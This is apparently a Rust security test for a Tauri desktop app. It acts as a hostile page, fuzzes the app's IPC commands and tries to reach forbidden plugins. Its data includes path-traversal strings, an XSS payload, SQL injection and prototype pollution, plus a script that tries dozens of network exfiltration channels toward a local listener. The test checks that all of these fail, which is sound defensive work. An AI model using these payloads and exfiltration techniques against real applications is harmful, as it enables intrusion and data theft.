//! A page that is somebody else's, in the real window: it calls everything with whatever arguments, and tries every way out.

use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU32, Ordering};
use std::time::Duration;

use pilotfish_tests::process::assert_tidy;
use pilotfish_tests::programs::repository;
use pilotfish_tests::wait::wait_until;
use pilotfish_tests::webdriver::Window;
use serde_json::{Value, json};

use super::TURN;
use super::stage::{Desktop, SOON, START};
use super::steps::{be_welcomed, wait_for_state};

/// Somebody on the network, who counts whoever comes.
struct Outside {
    port: u16,
    came: Arc<AtomicU32>,
}

impl Outside {
    fn listens() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("a free port");
        let port = listener.local_addr().expect("its port").port();
        let came = Arc::new(AtomicU32::new(0));
        let count = Arc::clone(&came);
        // It ends with the test's process.
        std::thread::spawn(move || {
            for connection in listener.incoming() {
                drop(connection);
                count.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { port, came }
    }

    fn came(&self) -> u32 {
        self.came.load(Ordering::SeqCst)
    }
}

/// Every way out of a page that there is, each of which may throw.
const WAYS_OUT: &str = r"
const [port] = arguments;
const at = `http://127.0.0.1:${port}`;
const tried = [];
const way = (name, act) => {
  try {
    const made = act();
    tried.push(name);
    if (made && typeof made.catch === 'function') made.catch(() => {});
  } catch (error) {
    tried.push(`${name}: ${error}`);
  }
};
const add = (tag, given) => document.body.append(Object.assign(document.createElement(tag), given));
const markup = (html) => document.body.insertAdjacentHTML('beforeend', html);
way('fetch', () => fetch(`${at}/fetch?x=1`, { mode: 'no-cors' }));
way('xhr', () => { const ask = new XMLHttpRequest(); ask.open('POST', `${at}/xhr`); ask.send('x'); });
way('socket', () => new WebSocket(`ws://127.0.0.1:${port}/socket`));
way('events', () => new EventSource(`${at}/events`));
way('beacon', () => navigator.sendBeacon(`${at}/beacon`, 'x'));
way('picture', () => add('img', { src: `${at}/a.png` }));
way('picture made', () => { new Image().src = `${at}/b.png`; });
way('script', () => add('script', { src: `${at}/a.js` }));
way('style', () => add('link', { rel: 'stylesheet', href: `${at}/a.css` }));
way('preload', () => add('link', { rel: 'preload', as: 'image', href: `${at}/c.png` }));
way('prefetch', () => add('link', { rel: 'prefetch', href: `${at}/d` }));
way('preconnect', () => add('link', { rel: 'preconnect', href: at }));
way('frame', () => add('iframe', { src: `${at}/frame` }));
way('object', () => add('object', { data: `${at}/object` }));
way('media', () => add('video', { src: `${at}/a.webm`, autoplay: true }));
way('import', () => import(`${at}/module.js`));
way('worker', () => new Worker(URL.createObjectURL(new Blob([`fetch('${at}/worker')`]))));
way('shared sheet', () => {
  const sheet = new CSSStyleSheet();
  sheet.insertRule(`@font-face { font-family: 'f'; src: url('${at}/f.woff2'); }`);
  sheet.insertRule(`body { font-family: 'f'; background: url('${at}/g.png'); }`);
  document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
});
way('own style', () => { document.body.style.backgroundImage = `url('${at}/h.png')`; });
way('markup', () => markup(`<img src='${at}/i.png' onerror='fetch(\'${at}/j\')'><div style='background:url(${at}/k.png)'>x</div>`));
way('written script', () => { const s = document.createElement('script'); s.textContent = `window.__ran = true; fetch('${at}/l')`; document.body.append(s); });
way('form', () => { const form = Object.assign(document.createElement('form'), { action: `${at}/form`, method: 'post' }); document.body.append(form); form.submit(); });
way('ping', () => { const a = Object.assign(document.createElement('a'), { href: '#', ping: `${at}/ping` }); document.body.append(a); a.click(); });
way('call', () => new RTCPeerConnection({ iceServers: [{ urls: `turn:127.0.0.1:${port}?transport=tcp`, username: 'x', credential: 'x' }] }).createDataChannel('x'));
way('window', () => window.open(`${at}/window`));
way('elsewhere', () => { location.href = `${at}/elsewhere`; });
way('refresh', () => add('meta', { httpEquiv: 'refresh', content: `0;url=${at}/refresh` }));
way('file', () => { location.assign('file:///etc/passwd'); });
way('base', () => add('base', { href: at }));
return tried;";

/// Calls each command with each argument, one after the other, and keeps what came of it.
const CALLS: &str = r#"
const [commands, hostile] = arguments;
const kept = { done: false, answered: 0, refused: 0, words: '' };
window.__calls = kept;
const { invoke } = window.__TAURI_INTERNALS__;
const call = async (command, given) => {
  try {
    kept.words += JSON.stringify(await invoke(command, given)).slice(0, 20000);
    kept.answered += 1;
  } catch (error) {
    kept.words += (typeof error === 'string' ? error : JSON.stringify(error)).slice(0, 2000);
    kept.refused += 1;
  }
};
(async () => {
  const values = [...hostile, NaN, Infinity, -Infinity, undefined, 2 ** 64, '9'.repeat(100000), JSON.parse('{"__proto__":{"polluted":true}}')];
  for (const [command, names] of commands) {
    for (const value of values) await call(command, Object.fromEntries(names.map((name) => [name, value])));
    await call(command, {});
  }
  kept.done = true;
})();
return true;"#;

/// What the window asks for now, awaited by looking for it.
async fn answer(window: &Window, command: &str) -> Value {
    let begin = "window.__answer = null; \
                 window.__TAURI_INTERNALS__.invoke(arguments[0], {}).then((said) => { window.__answer = { said }; }); return true";
    window.script(begin, json!([command])).await;
    let said = window
        .wait_for(SOON, command, "return window.__answer", json!([]))
        .await;
    said["said"].clone()
}

/// The commands with their arguments' names, as the window's own code calls them.
fn commands() -> Vec<(String, Vec<String>)> {
    let bindings = std::fs::read_to_string(repository().join("ui/src/bindings.ts")).expect("the bindings");
    let call = |line: &str| {
        let (_, given) = line.split_once("__TAURI_INVOKE(\"")?;
        let (name, rest) = given.split_once('"')?;
        let names = rest.split_once('{').and_then(|(_, rest)| rest.split_once('}'));
        let names = names.map_or("", |(names, _)| names);
        let names = names.split(',').map(|name| name.trim().to_owned());
        Some((name.to_owned(), names.filter(|name| !name.is_empty()).collect()))
    };
    bindings.lines().filter_map(call).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_page_reads_no_secret_reaches_nobody_and_changes_no_limit() {
    let _turn = TURN.lock().await;
    let Some(desktop) = Desktop::new() else { return };
    let outside = Outside::listens();
    drop(TcpStream::connect(("127.0.0.1", outside.port)).expect("it listens"));
    wait_until(SOON, "whoever comes is counted", || outside.came() == 1);
    let window = desktop.open().await;
    be_welcomed(&window).await;
    wait_for_state(&window, START, "Running").await;
    let before = answer(&window, "settings").await;

    // What ends the program or begins another world is the user's own to ask for in the demo, and would end the test.
    let harmless = |(name, _): &(String, Vec<String>)| !["quit", "reset_demo"].contains(&name.as_str());
    let commands: Vec<(String, Vec<String>)> = commands().into_iter().filter(harmless).collect();
    assert!(commands.len() > 50, "{commands:?}");
    let hostile = json!([
        null, true, -1, 18_446_744_073_709_551_615_u64, 1e308, "NaN", "1e300", "-Infinity", "../../../../etc/passwd",
        "file:///etc/passwd", "%2e%2e%2f\u{0}", "<img src=x onerror=alert(1)>", "'; DROP TABLE follows; --", "\u{202e}",
        [], [null, {}], { "percentage": "20", "maxOrder": "10000000" },
        { "constructor": { "prototype": { "polluted": true } } },
    ]);
    window.script(CALLS, json!([commands, hostile])).await;
    let done = "return window.__calls.done ? window.__calls : null";
    let calls = window
        .wait_for(Duration::from_secs(300), "every call is answered", done, json!([]))
        .await;
    assert!(
        calls["refused"].as_u64() > calls["answered"].as_u64(),
        "{}",
        calls["answered"]
    );
    let words = calls["words"].as_str().expect("what was said").to_lowercase();
    // Whether there is one is of a closed list, and no secret.
    let words = words.replace("\"passphrase\":\"not_set\"", "");
    for secret in [
        "private key",
        "privatekey",
        // As a field with a text: whether there is one, and what a window can be opened for, is no secret.
        "\"passphrase\":\"",
        "root:x:0",
        "api secret",
        "apisecret",
    ] {
        let around = words
            .find(secret)
            .map(|at| words.chars().skip(at.saturating_sub(200)).take(400).collect::<String>());
        assert!(around.is_none(), "{secret}: {around:?}");
    }
    // It may have looked at paper, whose limits are others: those of the demo are as they were.
    let demo = "window.__shown = null; \
                window.__TAURI_INTERNALS__.invoke('show_mode', { mode: 'demo' }).then(() => { window.__shown = true; }); return true";
    window.script(demo, json!([])).await;
    window
        .wait_for(SOON, "the demo is shown", "return window.__shown", json!([]))
        .await;
    assert_eq!(answer(&window, "settings").await["limits"], before["limits"]);
    assert_eq!(answer(&window, "follows").await, json!([]));
    let clean = "return [({}).polluted === undefined, Object.isFrozen(Object.prototype), typeof window.__TAURI__]";
    assert_eq!(window.script(clean, json!([])).await, json!([true, true, "undefined"]));

    // Nothing but the list can be called, whatever the toolkit and its plug-ins have.
    let others = "window.__others = null; const others = arguments[0]; \
                  Promise.allSettled(others.map((name) => window.__TAURI_INTERNALS__.invoke(name, {}))) \
                  .then((settled) => { window.__others = settled.map((one) => one.status); }); return true";
    let names = json!([
        "import_key",
        "plugin:window|create",
        "plugin:window|close",
        "plugin:webview|create_webview_window",
        "plugin:app|app_hide",
        "plugin:event|emit",
        "plugin:path|resolve_directory",
        "plugin:notification|notify",
        "plugin:process|exit",
        "plugin:updater|download_and_install",
        "plugin:global-shortcut|register",
        "plugin:shell|open",
        "plugin:fs|read_file",
        "plugin:menu|new",
        "no_such_command",
    ]);
    window.script(others, json!([names])).await;
    let settled = window
        .wait_for(SOON, "the others are answered", "return window.__others", json!([]))
        .await;
    let settled = settled.as_array().expect("a list");
    assert!(settled.iter().all(|status| status == "rejected"), "{names} {settled:?}");

    let page = window.script("return location.href", json!([])).await;
    let tried = window.script(WAYS_OUT, json!([outside.port])).await;
    println!("ways out: {tried}");
    // Whoever is let out is there at once: the way back and forth to the program takes longer.
    for _ in 0..20 {
        answer(&window, "frame").await;
    }
    assert_eq!(outside.came(), 1, "somebody came: {tried}");
    assert_eq!(
        window.script("return location.href", json!([])).await,
        page,
        "the window stayed"
    );
    let ran = window.script("return window.__ran === undefined", json!([])).await;
    assert_eq!(ran, true, "a script that stands in the page ran");
    assert_tidy(&window.stderr());
}
